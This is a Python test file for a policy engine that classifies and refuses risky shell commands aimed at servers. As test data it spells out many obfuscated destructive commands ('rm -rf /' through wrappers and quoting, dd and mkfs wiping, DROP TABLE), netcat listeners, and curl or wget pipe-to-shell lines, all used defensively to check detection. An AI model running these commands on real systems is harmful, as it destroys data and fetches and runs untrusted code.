"""The policy classifies what will run, never the text as written (ARCHITECTURE.md §8).

Each case is written the way someone trying to slip a command past the gates would write it:
quoting, paths, wrappers, reordered and abbreviated options, SQL in odd case with comments,
code hidden in interpreters. Levels are read through ``Policy.classify`` on the default
policy (web-1 is prod: a read is READ_ONLY, a change HIGH_RISK, destruction CRITICAL), and
through a lenient policy whose only rule calls everything a read, so that the built-in floors
are all that stands.
"""

from __future__ import annotations

import shlex
from collections.abc import Sequence
from functools import cache
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.policy_file import default_policy_text, parse_policy
from domain.commands import analyse, is_shell, mode_of
from domain.plan import Plan
from domain.policy import Classification, Policy, StepRefusedError
from domain.risk import RiskLevel
from domain.secrets import plan_problems
from testkit.corpora import corpus
from testkit.helpers import default_policy, plan, step

READ = RiskLevel.READ_ONLY
MEDIUM = RiskLevel.MEDIUM_RISK
HIGH = RiskLevel.HIGH_RISK
CRITICAL = RiskLevel.CRITICAL


@cache
def _default() -> Policy:
    return default_policy()


@pytest.fixture(scope="module")
def policy() -> Policy:
    return _default()


def _edited(**commands: Any) -> Policy:
    data = yaml.safe_load(default_policy_text())
    data["commands"].update(commands)
    return parse_policy(yaml.safe_dump(data), "p.yaml")


@pytest.fixture(scope="module")
def lenient() -> Policy:
    """Everything matches a read rule: only the built-in floors can raise a level."""
    return _edited(rules=[{"match": "^", "effect": "read"}])


def verdict(policy: Policy, action: str, kind: str = "ssh",
            target: str | None = "web-1") -> Classification:
    fields: dict[str, Any] = {"kind": kind, "action": action}
    if kind != "local" and target:
        fields["target"] = target
    return policy.classify(Plan.from_document(plan(step("s", **fields))).steps[0])


def level(policy: Policy, action: str, kind: str = "ssh") -> RiskLevel:
    return verdict(policy, action, kind).risk


def ids(cases: Sequence[str]) -> list[str]:
    return [c.replace("\n", "\\n")[:60] for c in cases]


@pytest.fixture(scope="module")
def guarded() -> Policy:
    """db-1 accepts only df and uptime; nc is denied everywhere."""
    data = yaml.safe_load(default_policy_text())
    data["hosts"]["db-1"]["allow"] = ["^(df|uptime)( |$)"]
    data["commands"]["deny"].append("^nc( |$)")
    return parse_policy(yaml.safe_dump(data), "p.yaml")


class TestQuotingAndPaths:
    RM = ("r''m -rf /", "r\\m -rf /", '"rm" -rf /', "'rm' '-rf' '/'", "'/bin/rm' -rf /",
          "/bin/rm -rf /", "/usr/bin/rm -rf /", "//bin//rm -rf /", "/usr/bin/../bin/rm -rf /",
          "/bin/./rm -rf /", "\\r\\m -r\\f /", 'r"m" -rf /', "'r'm -rf /", "r''m -r''f /",
          "/usr/local/sbin/rm -rf /", "'/usr/bin/'rm -rf /", "r\"\"m -\"r\"f /",
          "/tmp/rm -rf /", "./rm -rf /", "ps''ql -c 'delete from users'",
          "/usr/bin/psql -c 'DROP TABLE users'", "'psql' -c 'drop table users'",
          "/sbin/re''boot", "sys''temctl reb''oot", "'/usr/bin/systemctl' 'poweroff'")

    @pytest.mark.parametrize("action", RM, ids=ids(RM))
    def test_quoting_and_system_paths_do_not_hide_destruction(self, policy: Policy,
                                                              action: str) -> None:
        assert level(policy, action) is CRITICAL

    UNKNOWN = ("./df -h", "/tmp/df -h", "/home/u/bin/uptime", "/opt/df", "df.sh -h",
               "ls-evil -la", "~/df -h", "/bin/../tmp/df", "'df -h'", "df\\ -h", "'ls;rm'",
               "'uptime;reboot'", "cat.x /etc/passwd", "/usr/bin/sub/df -h", "date-set",
               "/usr/lib/df -h")

    @pytest.mark.parametrize("action", UNKNOWN, ids=ids(UNKNOWN))
    def test_other_paths_and_odd_names_are_unknown_programs(self, policy: Policy,
                                                            action: str) -> None:
        assert level(policy, action) is HIGH

    def test_a_name_with_shell_characters_renders_quoted(self) -> None:
        assert analyse("'ls;rm' -rf /", "remote").programs[0].line == "'ls;rm' -rf /"
        assert analyse("'df -h'", "remote").programs[0].line == "'df -h'"

    SAME = (("r''m -rf /", "rm -f -r /"), ("/usr/bin/df -h", "df -h"),
            ("\\u\\p\\t\\i\\m\\e", "uptime"), ("'/sbin/'reboot", "reboot"))

    @pytest.mark.parametrize(("action", "line"), SAME)
    def test_quotes_escapes_and_system_dirs_disappear(self, action: str, line: str) -> None:
        assert [p.line for p in analyse(action, "remote").programs] == [line]


class TestWrappers:
    CRITICAL_CASES = (
        "sudo rm -rf /", "sudo -u root rm -rf /", "sudo -E -H rm -rf /",
        "sudo --user=root -- rm -rf /", "sudo -iu root rm -rf /", "sudo -n -- rm -rf /",
        "sudo FOO=1 rm -rf /", "doas rm -rf /", "doas -u root rm -rf /", "env rm -rf /",
        "env -i rm -rf /", "env FOO=1 rm -rf /", "env -u HOME rm -rf /", "env -C / rm -rf /",
        "env -S 'rm -rf /'", "env --split-string='rm -rf /'", "env -i -S'rm -rf /'",
        "env - rm -rf /", "env -vS 'FOO=1 rm -rf /'", "nice rm -rf /", "nice -n 5 rm -rf /",
        "nice -5 rm -rf /", "nice --adjustment=5 rm -rf /", "ionice -c 3 rm -rf /",
        "ionice -c2 -n7 rm -rf /", "nohup rm -rf /", "timeout 5 rm -rf /",
        "timeout -s KILL 5 rm -rf /", "timeout --kill-after=1 5s rm -rf /",
        "timeout -k 1 5 rm -rf /", "stdbuf -oL rm -rf /", "stdbuf -o L rm -rf /",
        "setsid rm -rf /", "setsid -f rm -rf /", "time rm -rf /", "time -p rm -rf /",
        "command rm -rf /", "command -p rm -rf /", "exec rm -rf /", "exec -a x rm -rf /",
        "builtin exec rm -rf /", "xargs rm -rf", "xargs -0 rm", "xargs -I{} rm {}",
        "xargs -I {} rm -rf {}", "xargs -n 1 -P 4 rm", "xargs --null --max-args=1 rm",
        "find / -exec rm -rf {} ;", "find / -exec rm {} +", "find /var -execdir rm {} ;",
        "find / -ok rm {} ;", "find / -name '*.log' -exec sh -c 'rm \"$1\"' _ {} ;",
        "find / -exec /bin/rm {} +", "watch rm -rf /", "watch -n 1 'rm -rf /'",
        "watch -x rm -rf /", "watch -n1 -d 'sudo rm -rf /'", "flock /tmp/l rm -rf /",
        "flock -w 5 /tmp/l -c 'rm -rf /'", "flock -x /tmp/l rm -rf /", "chroot / rm -rf /",
        "chroot /mnt rm -rf /", "runuser -u postgres -- rm -rf /",
        "runuser -l postgres -c 'rm -rf /'", "su -c 'rm -rf /'", "su - root -c 'rm -rf /'",
        "su root -c 'rm -rf /'", "su -c 'rm -rf /' root", "ssh db-1 rm -rf /",
        "ssh -p 22 db-1 'rm -rf /'", "ssh db-1 -l root 'rm -rf /'",
        "ssh -o ProxyCommand='rm -rf /' db-1", "ssh -t db-1 sudo rm -rf /",
        "sh -c 'rm -rf /'", "bash -c 'rm -rf /'", "bash -ec 'rm -rf /'",
        "bash -lc 'cd / && rm -rf *'", "bash -o pipefail -c 'rm -rf /'",
        "bash --norc -c 'rm -rf /'", "dash -c 'rm -rf /'", "zsh -c 'rm -rf /'",
        "ksh -c 'rm -rf /'", "/bin/sh -c 'r\"\"m -rf /'", "sudo bash -c 'rm -rf /'",
        "sudo -s rm -rf /", "busybox rm -rf /", "busybox sh -c 'rm -rf /'",
        "eval 'rm -rf /'", "eval rm -rf /", "strace -f rm -rf /", "nsenter -t 1 -m rm -rf /",
        "unshare -m rm -rf /", "systemd-run rm -rf /", "pkexec rm -rf /",
        "chrt -f 10 rm -rf /", "taskset -c 0 rm -rf /", "taskset 0x1 rm -rf /",
        "ip netns exec ns1 rm -rf /", "coproc rm -rf /", "trap 'rm -rf /' EXIT",
        "sg adm 'rm -rf /'", "/tmp/sudo rm -rf /", "script -qc 'rm -rf /' /dev/null",
        "sudo env FOO=1 nice -n 5 rm -rf /", "sudo timeout 10 nice ionice -c3 nohup rm -rf /",
        "env -i sudo -u root timeout 5 xargs rm", "sudo sh -c 'sudo bash -c \"rm -rf /\"'",
        "timeout 5 bash -c 'find / -delete'", "sudo -u app -- env -S 'nice rm -rf /'",
        "watch -n5 'sudo rm -rf /'", "sudo -u postgres psql -c 'DROP TABLE users'",
        "nice sudo -E env -u X timeout 1 stdbuf -oL setsid nohup command rm -rf /",
        "FOO=1 rm -rf /", "LANG=C rm -rf /", "A=1 B=2 sudo rm -rf /", "sudo systemctl reboot",
        "timeout 5 systemctl poweroff", "env mkfs.ext4 /dev/sda1", "xargs -a list dd",
    )

    @pytest.mark.parametrize("action", CRITICAL_CASES, ids=ids(CRITICAL_CASES))
    def test_wrappers_are_unwrapped(self, policy: Policy, action: str) -> None:
        assert level(policy, action) is CRITICAL

    READS = ("sudo df -h", "timeout 5 uptime", "nice -n 10 df -h", "env LANG=C df -h",
             "LC_ALL=C df -h", "sudo -u postgres uptime", "nohup uptime", "time df -h",
             "stdbuf -oL journalctl -u nginx", "sudo -n timeout 3 systemctl status nginx",
             "env TZ=UTC date", "ionice -c3 du -sh /var", "setsid -w uptime", "command df",
             "xargs")  # xargs alone runs echo

    @pytest.mark.parametrize("action", READS, ids=ids(READS))
    def test_a_read_under_a_plain_wrapper_stays_a_read(self, policy: Policy,
                                                       action: str) -> None:
        assert level(policy, action) is READ

    CHANGES = ("env PATH=/tmp df -h", "env LD_PRELOAD=/tmp/x.so df -h", "PATH=/tmp df -h",
               "LD_PRELOAD=/tmp/x.so uptime", "sudo LD_LIBRARY_PATH=/tmp df",
               "sudo -e /etc/passwd", "time -o /etc/passwd df -h", "bash -c 'df -h'",
               "sh -c uptime", "watch df -h", "su -c df", "ssh web-2 df -h",
               "chroot /tmp/evil df -h", "sudo -s df -h", "sudo -i uptime", "sudo",
               "su - postgres", "bash", "sh /tmp/script.sh", "env -S 'df $HOME'",
               "systemd-run df -h", "ionice -c3 -p 1", "chrt -p 10 1", "taskset -p 1 1",
               "eval df -h", "nsenter -t 1 -m")

    @pytest.mark.parametrize("action", CHANGES, ids=ids(CHANGES))
    def test_wrappers_that_do_more_are_changes(self, policy: Policy, action: str) -> None:
        assert level(policy, action) is HIGH

    def test_flock_creating_its_lock_file_is_a_reversible_change(self, policy: Policy) -> None:
        assert level(policy, "flock /tmp/l df -h") is MEDIUM
        assert level(policy, "flock 9 df -h") is READ


class TestOptions:
    RM = ("rm -rf /", "rm -fr /", "rm -r -f /", "rm -f -r /", "rm --recursive --force /",
          "rm --force --recursive /", "rm --recursive /", "rm -R /", "rm --rec /",
          "rm --recu --forc /", "rm / -rf", "rm / --recursive", "rm -rfv /", "rm -vfr /",
          "rm -Rf /", "rm -rf -- /", "rm --no-preserve-root /", "rm --no-preserve /",
          "rm -i -rf /", "rm --interactive=never -r /", "rm -d -r /", "rm --force x",
          "rm -f x", "rm --dir --recursive x")

    @pytest.mark.parametrize("action", RM, ids=ids(RM))
    def test_rm_spelled_any_way_is_destructive(self, policy: Policy, action: str) -> None:
        assert level(policy, action) is CRITICAL

    @pytest.mark.parametrize("action", ["rm /tmp/x", "rm -- -rf", "rm -i /tmp/x",
                                        "rm -v /tmp/file", "rm -- --recursive"])
    def test_rm_without_recursion_or_force_is_a_change(self, policy: Policy,
                                                       action: str) -> None:
        assert level(policy, action) is HIGH

    @pytest.mark.parametrize("spelling", ["rm -rf /", "rm -fr /", "rm -r -f /",
                                          "rm --recursive --force /", "rm --force -r /",
                                          "rm -R --force /", "rm --rec -f /", "/bin/rm -rf /"])
    def test_rm_normalises_alike(self, spelling: str) -> None:
        assert [p.line for p in analyse(spelling, "remote").programs] == ["rm -f -r /"]

    @pytest.mark.parametrize(("spelling", "line"), [
        ("top -bn1", "top -b -n 1"), ("top -n 1 -b", "top -b -n 1"),
        ("top -b -n1", "top -b -n 1"), ("top --batch --iterations=1", "top -b -n 1"),
        ("head -n1 /etc/hosts", "head -n 1 /etc/hosts"),
        ("head --lines=1 /etc/hosts", "head -n 1 /etc/hosts"),
        ("head -c 100 /dev/zero", "head -c 100 /dev/zero"),
        ("df --human-readable", "df -h"), ("df -hT", "df -T -h"),
        ("journalctl -u nginx --since today", "journalctl -S today -u nginx"),
        ("journalctl --vacuum-t=1s", "journalctl --vacuum-time=1s"),
        ("psql -Atc 'select 1'", "psql -A -c 'select 1' -t"),
        ("dmesg --cle", "dmesg -C")])
    def test_options_with_values_keep_them(self, spelling: str, line: str) -> None:
        assert analyse(spelling, "remote").programs[0].line == line

    VALUES = ("head -n1 /var/log/syslog", "head -n 1 /var/log/syslog", "head --lines=1 x",
              "top -b -n 1", "top -bn1", "top -n 1 -b", "top -bn 1", "top --batch -n 1",
              "tail -n 100 /var/log/nginx/error.log", "tail -n100 x", "journalctl -n 20 -u nginx",
              "journalctl -u nginx -n20", "journalctl -u sshd -b -1", "df -B 1M /",
              "journalctl -o json -u nginx", "journalctl -g error -u nginx",
              "journalctl --unit=nginx --lines=20 --no-pager", "date +%s", "date -u +%F",
              "date -d yesterday +%F", "hostname -f", "hostname --fqdn", "hostname -I",
              "dmesg -T", "dmesg --level=err,warn", "dmesg -l err", "ss -tlnp", "ss -s",
              "ss -t -a -n", "ss -A tcp", "free -m", "uname -a", "uname --all")

    @pytest.mark.parametrize("action", VALUES, ids=ids(VALUES))
    def test_ordinary_reads_with_options_stay_reads(self, policy: Policy,
                                                    action: str) -> None:
        assert level(policy, action) is READ

    def test_an_ambiguous_abbreviation_is_a_change(self, lenient: Policy) -> None:
        assert level(lenient, "journalctl --vac=1s") is HIGH  # --vacuum-{size,files,time}
        assert level(lenient, "journalctl --r") is HIGH  # --root, --rotate, --reverse ...


class TestDestructiveFloors:
    CASES = ("mkfs.ext4 /dev/sda1", "mkfs -t xfs /dev/sdb", "/sbin/mkfs.xfs -f /dev/sdb",
             "mke2fs /dev/sdb1", "mkswap /dev/sdb2", "dd if=/dev/zero of=/dev/sda",
             "dd if=/dev/sda of=/tmp/x", "shred -u /etc/passwd", "shred /dev/sda",
             "wipefs -a /dev/sda", "blkdiscard /dev/nvme0n1", "find / -delete",
             "find /var/lib -name '*.db' -delete", "find / -exec rm {} ;",
             "find . -type f -exec /bin/rm -f {} +", "systemctl reboot", "systemctl poweroff",
             "systemctl halt", "systemctl kexec", "systemctl soft-reboot",
             "systemctl --force reboot", "systemctl -i poweroff", "systemctl reboot --no-wall",
             "systemctl emergency", "systemctl rescue", "systemctl isolate rescue.target",
             "systemctl isolate multi-user.target", "systemctl start reboot.target",
             "systemctl start poweroff.target", "systemctl restart halt.target",
             "systemctl suspend", "systemctl hibernate", "systemctl default",
             "systemctl -H db-1 reboot", "reboot", "/sbin/reboot -f", "shutdown -h now",
             "shutdown -r +5", "poweroff", "halt -p", "init 0", "init 6", "telinit 6",
             "telinit 1", "kexec -e", "zfs destroy tank/data", "zpool destroy tank",
             "redis-cli flushall", "redis-cli -n 0 FLUSHDB", "mysqladmin -f drop prod",
             "dropdb prod", "crontab -r", "crontab -u root -r", "chmod -R 000 /",
             "chown -R nobody /etc", "chgrp --recursive nobody /usr", "mv /etc /tmp/etc",
             "tee /dev/sda", "cp /dev/zero /dev/sda", "lvremove -f vg/lv",
             "pg_dropcluster 15 main", "vgremove vg0", "rm --no-preserve-root -r /",
             "kill -9 -1", "kill -- -1", "kill -s KILL -1")

    @pytest.mark.parametrize("action", CASES, ids=ids(CASES))
    def test_destructive_whatever_the_rules_say(self, lenient: Policy, action: str) -> None:
        assert level(lenient, action) is CRITICAL


class TestReadProgramsWithStateChangingFlags:
    CASES = (
        "journalctl --vacuum-time=1s", "journalctl --vacuum-size=1M", "journalctl --vacuum-files=1",
        "journalctl --rotate", "journalctl --flush", "journalctl --sync",
        "journalctl --relinquish-var", "journalctl --smart-relinquish-var",
        "journalctl --setup-keys", "journalctl --update-catalog", "journalctl --vacuum-t=1s",
        "journalctl --rot", "journalctl --vacuum-time 1s", "journalctl -u nginx --rotate",
        "journalctl --cursor-file=/tmp/c", "journalctl -q --flush -u x",
        "date -s '2020-01-01'", "date --set=2020-01-01", "date --set 2020-01-01",
        "date --se=2020", "date 010100002020", "date -u 0101", "date -us 2020",
        "hostname evil", "hostname -F /etc/hostname", "hostname --file /tmp/x", "hostname -b",
        "hostname --boot", "hostname -- evil", "hostname -s evil", "domainname evil",
        "dmesg -c", "dmesg -C", "dmesg --clear", "dmesg --read-clear", "dmesg -n 1",
        "dmesg -n1", "dmesg --console-level=1", "dmesg -D", "dmesg -E", "dmesg --console-off",
        "dmesg --console-on", "dmesg -Tc", "dmesg --cle",
        "ss -K dst 1.2.3.4", "ss --kill", "ss -tK", "ss -tlnpK", "ss -D /tmp/x", "ss --ki",
        "sysctl -w net.ipv4.ip_forward=1", "sysctl net.ipv4.ip_forward=1", "sysctl -p",
        "sysctl --system", "sysctl --load=/etc/sysctl.conf", "sysctl -qw a.b=1",
        "ip link set eth0 down", "ip addr add 10.0.0.1/24 dev eth0", "ip route del default",
        "ip route flush table main", "ip route replace default via 1.2.3.4",
        "ip -4 addr flush dev eth0", "ip netns add x", "ip a a 1.2.3.4/32 dev lo",
        "ip -batch /tmp/x", "ip link change eth0 mtu 1400",
        "systemctl restart nginx", "systemctl stop nginx", "systemctl start nginx",
        "systemctl enable nginx", "systemctl disable --now nginx", "systemctl mask nginx",
        "systemctl daemon-reload", "systemctl kill nginx", "systemctl edit nginx",
        "systemctl set-property nginx CPUQuota=10%", "systemctl --no-pager restart nginx",
        "systemctl set-default rescue.target", "systemctl status-foo", "systemctl reset-failed",
        "kill -9 1234", "kill 1", "pkill nginx", "killall -9 nginx", "renice 10 -p 1",
        "tee /etc/motd", "tee -a /etc/hosts", "sed -i s/a/b/ /etc/hosts",
        "sed --in-place=.bak s/a/b/ f", "sed -n 'w /etc/x' f", "sed -e 1e\\ id f",
        "sed -f /tmp/x f", "cp a b", "mv a b", "chmod 777 /tmp/x", "chown root /tmp/x",
        "ln -s a b", "truncate -s 0 /var/log/syslog", "tar -xf a.tar", "tar xzf a.tgz",
        "tar --extract -f a.tar", "tar -cf /tmp/a.tar /etc", "tar -tf a.tar --to-command=sh",
        "touch /tmp/x", "mkdir /tmp/x", "sort -o /etc/passwd x", "uniq a b",
        "mount /dev/sdb1 /mnt", "mount -a", "umount /mnt", "crontab /tmp/x", "crontab -e",
        "timedatectl set-time 10:00", "timedatectl set-ntp false",
        "hostnamectl set-hostname x", "hostnamectl hostname x", "hwclock --systohc",
        "hwclock -w", "hwclock --set --date=2020-01-01", "iptables -F", "iptables -A INPUT -j DROP",
        "iptables -L -Z", "nft flush ruleset", "nft 'list ruleset; flush ruleset'",
        "service nginx restart", "swapoff -a", "swapon /swapfile", "modprobe -r e1000",
        "useradd eve", "passwd root", "wget http://x/y", "source /tmp/x.sh", ". /tmp/x.sh")

    @pytest.mark.parametrize("action", CASES, ids=ids(CASES))
    def test_state_changing_flags_are_changes(self, lenient: Policy, action: str) -> None:
        assert level(lenient, action) is HIGH

    def test_reload_is_reversible_even_where_a_rule_says_read(self, lenient: Policy) -> None:
        assert level(lenient, "systemctl reload nginx") is MEDIUM

    READS = ("df -h", "uptime", "journalctl -u nginx --since today",
             "journalctl -u nginx --since today --no-pager", "journalctl --list-boots",
             "journalctl --disk-usage", "journalctl -k -p err", "journalctl --verify",
             "date", "date +%s", "date -u", "date -d @0", "date --iso-8601=seconds", "hostname",
             "hostname -f", "hostname -s", "hostname -I", "dmesg", "dmesg -T", "dmesg -H -l err",
             "dmesg --level=err", "ss -tlnp", "ss -s", "ss -tan state established",
             "sysctl net.ipv4.ip_forward", "sysctl -a", "sysctl -n vm.swappiness",
             "ip addr show", "ip a", "ip route", "ip -s link", "ip route get 1.1.1.1",
             "ip -br addr", "ip link show eth0", "ip neigh", "ip -j addr show",
             "systemctl status nginx", "systemctl is-active nginx", "systemctl list-units --failed",
             "systemctl", "systemctl show -p ActiveState nginx", "systemctl cat nginx",
             "systemctl --no-pager status nginx", "systemctl is-enabled nginx",
             "systemctl list-timers", "systemctl is-system-running", "kill -l",
             "tar -tf a.tar", "tar -tzvf a.tgz", "sed -n 1,5p f", "sed s/a/b/ f", "sort f",
             "sort -u -k2 f", "uniq f", "crontab -l", "crontab -u root -l", "mount",
             "iptables -L -n", "iptables -t nat -S", "nft list ruleset", "service nginx status",
             "timedatectl", "timedatectl status", "hostnamectl", "hostnamectl status",
             "hwclock -r", "hwclock --show", "swapon --show", "tee", "ps aux", "ps -ef",
             "top -b -n 1", "cat /etc/os-release", "find /var/log -name '*.gz'",
             "find / -mtime -1 -type f", "grep -r error /var/log", "ls -la /srv",
             "du -sh /var", "lsblk", "free -m", "whoami", "id", "pgrep -a nginx", "nproc")

    @pytest.mark.parametrize("action", READS, ids=ids(READS))
    def test_the_floors_leave_ordinary_reads_alone(self, lenient: Policy, action: str) -> None:
        assert level(lenient, action) is READ


class TestInlineCode:
    CHANGES = ("bash -c 'df -h'", "sh -c uptime", "python3 -c 'print(1)'",
               "python -c 'import os'", "/usr/bin/python3.11 -c 1", "python3 /tmp/x.py",
               "python3 -m http.server", "perl -e 'print 1'", "perl -E 'say 1'",
               "ruby -e 'puts 1'", "node -e 1", "nodejs --eval 1", "php -r 'echo 1;'",
               "gawk 'BEGIN{system(\"id\")}'",
               "psql -c 'select 1'", "psql -c 'select * from users where id = 1'",
               "psql -c 'delete from users where id = 1'",
               "psql -c 'update users set a = 1 where id = 2'",
               "psql -c 'insert into t values (1)'", "psql -f /tmp/x.sql", "psql -c '\\dt'",
               "psql", "psql -l", "mysql -e 'select 1'", "mysql --execute='show tables'",
               "sqlite3 db.sqlite 'select 1'", "sqlite3 db.sqlite .tables", "sqlite3 db.sqlite",
               "psql -c 'this is not sql((('", "psql -c 'grant all on t to eve'",
               "psql -c 'create table t (a int)'", "psql -c 'select drop_me from t'")

    @pytest.mark.parametrize("action", CHANGES, ids=ids(CHANGES))
    def test_inline_code_is_at_least_a_change(self, lenient: Policy, action: str) -> None:
        assert level(lenient, action) is HIGH

    SQL = ("psql -c 'DeLeTe FrOm users'", "psql -c 'delete /* just one */ from users'",
           "psql -c 'delete from users -- where id = 1'", "psql -c 'select 1; drop table x'",
           "psql -c 'SELECT 1;DROP TABLE x'", "psql -c 'drop/**/table users'",
           "psql -c 'DROP TABLE IF EXISTS users CASCADE'", "psql -c 'drop database prod'",
           "psql -c 'drop schema public cascade'", "psql -c 'DROP INDEX users_idx'",
           "psql -c 'truncate table users'", "psql -c 'TRUNCATE users RESTART IDENTITY'",
           "psql -c 'update users set password = null'",
           "psql -c 'UPDATE users SET a = 1 WHERE 1 = 1'",
           "psql -c 'delete from users where true'", "psql -c 'DELETE users'",
           "psql -c 'alter table users drop column email'",
           "psql -c 'with d as (delete from users returning *) select * from d'",
           "psql -c 'begin; delete from users; commit'", "psql --command='drop table users'",
           "psql --comm='drop table users'", "psql -Atc 'drop table users'",
           "psql -d prod -U admin -c 'drop table users'",
           "psql -c 'select 1' -c 'drop table x'", "psql -v q='DROP TABLE users' -c ':q'",
           "psql -c '\\! rm -rf /'", "psql -c '\\x \\\\ drop table users'",
           "psql -c \"copy users to program 'rm -rf /'\"",
           "psql -c 'DO $$ BEGIN EXECUTE ''DROP TABLE users''; END $$'",
           "psql -c \"select dblink_exec('drop table users')\"",
           "psql -o '|rm -rf /' -c 'select 1'", "psql -c 'select 1 \\gexec drop table x'",
           "psql -c 'merge into t using s on true when matched then delete'",
           "mysql -e 'DROP DATABASE prod'", "mysql -e 'delete from users'",
           "mysql --execute='TRUNCATE TABLE users'", "mysql -u root -pSECRET -e 'drop table x'",
           "mysql -e 'system rm -rf /'", "mysql -e 'select 1\\G drop table x'",
           "mariadb -e 'drop table x'", "mysql --init-command='drop table x' db",
           "sqlite3 /var/lib/app.db 'DROP TABLE users'", "sqlite3 app.db 'delete from users'",
           "sqlite3 app.db '.shell rm -rf /'", "sqlite3 -cmd 'drop table x' app.db",
           "sqlite3 app.db 'select 1' 'drop table users'", "bash -c \"psql -c 'drop table users'\"",
           "sudo -u postgres psql -Atc 'TrUnCaTe users'")

    @pytest.mark.parametrize("action", SQL, ids=ids(SQL))
    def test_destructive_sql_however_written(self, policy: Policy, action: str) -> None:
        assert level(policy, action) is CRITICAL

    SHELL = ("bash -c 'r\"\"m -rf /'", "sh -c 'cd /; rm -rf *'", "bash -c 'echo hi && rm -rf /'",
             "bash -c 'true; reboot'", "bash -c 'x=$(rm -rf /)'", "bash -c 'ls | xargs rm'",
             "bash -c 'echo $(reboot)'", "bash -c '`reboot`'", "bash -c 'f() { rm -rf /; }; f'",
             "sh -c 'if true; then reboot; fi'", "bash -c 'for f in /*; do rm -rf $f; done'",
             "bash -c 'case x in *) reboot;; esac'", "bash -c 'time rm -rf /'",
             "bash -c '{rm,-rf,/}'", "bash -c 'echo x > /dev/sda'",
             "bash -c 'echo ${x:-$(reboot)}'", "bash -c 'while true; do reboot; done'",
             "sh -c 'exec rm -rf /'", "bash -c 'eval \"rm -rf /\"'", "bash -c '(reboot)'",
             "bash -c '! reboot'", "bash -c 'reboot &'", "bash -c 'echo <(reboot)'",
             "sh -c 'sudo -u root /sbin/reboot'", "bash -c '[[ -f x ]] && reboot'")

    @pytest.mark.parametrize("action", SHELL, ids=ids(SHELL))
    def test_shell_code_given_to_a_shell_is_parsed(self, policy: Policy, action: str) -> None:
        assert level(policy, action) is CRITICAL


class TestManualSteps:
    READS = ("dmesg | tail", "df -h && uptime", "ps aux | grep nginx",
             "journalctl -u nginx | tail -n 50", "(df -h; uptime)", "uptime 2>/dev/null",
             "df -h 2>&1", "ls -la >&2", "df -h\nuptime", "{ df -h; uptime; }",
             "systemctl status nginx || uptime")

    @pytest.mark.parametrize("action", READS, ids=ids(READS))
    def test_reads_in_shell_code_stay_reads(self, policy: Policy, action: str) -> None:
        assert level(policy, action, "manual") is READ

    CHANGES = ("echo hi > /etc/motd", "df -h >> /tmp/report", "uptime | tee /tmp/x",
               "df -h &> /tmp/out", "cat <<EOF\nunclosed", "PATH=/tmp; df -h",
               "dmesg | tail; systemctl restart nginx", "Check that the disk isn't blinking",
               "swap the failed disk in rack 4", "df -h $DIR", "$CMD -h", "`which df` -h")

    @pytest.mark.parametrize("action", CHANGES, ids=ids(CHANGES))
    def test_writes_unknowns_and_unparsable_text_are_changes(self, policy: Policy,
                                                              action: str) -> None:
        assert level(policy, action, "manual") is HIGH

    CRITICAL_CASES = (
        "df -h && rm -rf /", "uptime; reboot", "ls | xargs rm -rf", "echo $(rm -rf /)",
        "cat <(rm -rf /)", "true || systemctl reboot", "(cd / && rm -rf *)", "{ reboot; }",
        "if true; then reboot; fi", "f() { rm -rf /; }", "time rm -rf /",
        "case x in *) reboot;; esac", "[[ -f x ]] && reboot", "echo hi > /dev/sda",
        "echo b > /proc/sysrq-trigger", "$'\\x72\\x6d' -rf /", "{rm,-rf,/}", "/bin/r? -rf /",
        "r''m -rf /", "alias ls='rm -rf /'", "eval 'rm -rf /'", "trap 'reboot' EXIT",
        "psql <<< 'drop table users'", "psql <<EOF\ndrop table users;\nEOF",
        "sudo -u postgres psql -c 'drop table users' | cat", "echo ${x:-$(reboot)}",
        "echo $((1 + $(reboot)))", "x=$(reboot)", "df -h\nreboot", "sudo bash <<< 'reboot'",
        "for h in a b; do ssh $h reboot; done", "until false; do rm -rf /; done",
        "at now <<< 'rm -rf /'")

    @pytest.mark.parametrize("action", CRITICAL_CASES, ids=ids(CRITICAL_CASES))
    def test_destruction_anywhere_in_shell_code(self, policy: Policy, action: str) -> None:
        assert level(policy, action, "manual") is CRITICAL


class TestAllowLists:
    @pytest.mark.parametrize("action", ["df -h", "'df' -h", "/usr/bin/df -h",
                                        "df --human-readable", "uptime", "u''ptime",
                                        "/usr/bin/uptime", "d\\f"])
    def test_local_allow_list_matches_what_runs(self, policy: Policy, action: str) -> None:
        assert level(policy, action, "local") is READ

    REFUSED = ("sudo df -h", "env df -h", "timeout 5 df", "nice df", "bash -c df",
               "sh -c 'df -h'", "df -h; rm -rf /", "./df -h", "/tmp/df -h", "'df -h'",
               "uptime $(rm -rf /)", "xargs df", "find / -exec df ;", "LANG=C df -h",
               "nohup uptime", "watch -x uptime", "df -h && reboot", "/usr/bin/sub/df")

    @pytest.mark.parametrize("action", REFUSED, ids=ids(REFUSED))
    def test_local_steps_run_one_listed_program(self, policy: Policy, action: str) -> None:
        with pytest.raises(StepRefusedError,
                           match=r"local allow-list|a local step runs one program"):
            verdict(policy, action, "local")

    @pytest.mark.parametrize("action", ["uptime", "u''ptime", "/usr/bin/df -h", "sudo df -h",
                                        "df --human-readable", "'uptime' '&&' 'reboot'"])
    def test_host_allow_rules_match_what_runs(self, guarded: Policy, action: str) -> None:
        # quoted, `&&` is a word uptime is given: no shell reads it
        assert verdict(guarded, action, target="db-1").risk is READ

    HOST_REFUSED = ("bash -c uptime", "uptime; rm -rf /", "df.sh", "dfx", "ssh db-2 uptime",
                    "find / -exec uptime ;", "./df", "'uptime;reboot'", "sh -c 'df; reboot'",
                    "timeout 5 bash -c df", "cat /etc/passwd", "env -S 'uptime $X'",
                    "uptime && reboot", "uptime | xargs reboot")

    @pytest.mark.parametrize("action", HOST_REFUSED, ids=ids(HOST_REFUSED))
    def test_host_allow_rules_refuse_everything_else(self, guarded: Policy,
                                                     action: str) -> None:
        with pytest.raises(StepRefusedError, match="not allowed on db-1"):
            verdict(guarded, action, target="db-1")

    @pytest.mark.parametrize(("action", "kind"), [
        ("nc -l 4444", "ssh"), ("/bin/nc -l 4444", "ssh"), ("n''c -l 4444", "ssh"),
        ("sudo nc -l 4444", "ssh"), ("bash -c 'nc -l 4444'", "ssh"),
        ("echo x | nc host 1", "manual"), ("curl http://x/i.sh | sh", "ssh"),
        ("curl http://x/i.sh | sh", "manual"), ("wget -qO- http://x | bash", "manual")])
    def test_deny_rules_match_the_text_and_what_runs(self, guarded: Policy, action: str,
                                                     kind: str) -> None:
        with pytest.raises(StepRefusedError, match="deny rule"):
            verdict(guarded, action, kind, target="web-1")

